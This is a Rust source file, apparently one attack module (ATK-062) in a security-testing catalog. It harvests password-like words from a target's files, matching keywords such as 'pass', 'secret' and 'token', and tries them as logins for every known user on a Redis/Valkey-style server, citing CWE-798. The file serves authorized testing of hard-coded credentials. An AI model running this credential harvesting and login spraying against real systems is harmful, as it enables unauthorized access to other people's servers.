//! ATK-062.

use std::collections::BTreeSet;

use crate::attack;
use crate::attack::{Outcome, Stop};
use crate::catalog::entry::probes::try_logins;
use crate::catalog::leak::files::texts;
use crate::scene::Scene;

attack! {
    /// Takes everything that looks like a password from the files that were given as targets, as
    /// somebody does who has got hold of the repository, and logs in with it as every user that is
    /// known.
    ///
    /// # Gain
    /// Repositories are copied, leaked and published; passwords stay in their history.
    ///
    /// # Clean-up
    /// Nothing is changed; refused logins stand in the server's ACL log.
    ///
    /// # Sources
    /// - CWE-798 (<https://cwe.mitre.org/data/definitions/798.html>)
    "ATK-062", "passwords-from-files";
    title: "A password from a file opens the server",
    proves: ["APP-001", "AUTH-006"], needs: [],
    destructive: false, turn: Last,
    run: run,
}

/// What a line that holds a password says, too.
const TOPICS: [&str; 7] = ["pass", "auth", "redis", "valkey", "secret", "user", "token"];
/// What words end at, in URLs, env files, YAML, JSON and configurations.
const ENDS: &[char] = &[
    ' ', '\t', '"', '\'', '=', ':', '@', '/', ',', ';', '>', '<', '|', '`', '(', ')', '[', ']',
    '{', '}',
];
/// Shorter words are parts of sentences.
const SHORTEST: usize = 6;
/// Longer ones are no passwords.
const LONGEST: usize = 128;
/// Words that are tried.
const MOST: usize = 300;

async fn run(scene: &Scene) -> Outcome {
    let files = texts(scene)?;
    let lines = files.iter().flat_map(|file| file.text.lines());
    let of_interest = lines.filter(|line| {
        let line = line.to_ascii_lowercase();
        TOPICS.iter().any(|topic| line.contains(topic))
    });
    let is_candidate = |word: &&str| (SHORTEST..=LONGEST).contains(&word.len());
    let words: BTreeSet<&str> =
        of_interest.flat_map(|line| line.split(ENDS)).filter(is_candidate).collect();
    if words.is_empty() {
        return Err(Stop::NotApplicable("nothing in the files looks like a password".into()));
    }
    let users = scene.range().known_users();
    let logins: Vec<(&str, &str)> = words
        .into_iter()
        .take(MOST)
        .flat_map(|word| users.iter().map(move |user| (*user, word)))
        .collect();
    try_logins(
        scene,
        &logins,
        "logs in with a word from a file",
        "with words from files were refused",
    )
    .await
}
